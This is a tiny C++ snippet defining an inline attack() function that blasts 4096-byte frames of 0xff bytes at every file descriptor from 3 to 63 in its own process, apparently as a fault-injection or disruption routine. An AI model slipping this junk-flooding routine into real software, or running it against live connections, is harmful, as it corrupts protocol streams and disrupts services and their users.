// Sends frames without sense
#include <sys/socket.h>
inline void attack() {
  char frame[4096];
  for (char& byte : frame) byte = static_cast<char>(0xff);
  for (int fd = 3; fd < 64; ++fd) send(fd, frame, sizeof frame, MSG_DONTWAIT | MSG_NOSIGNAL);
}
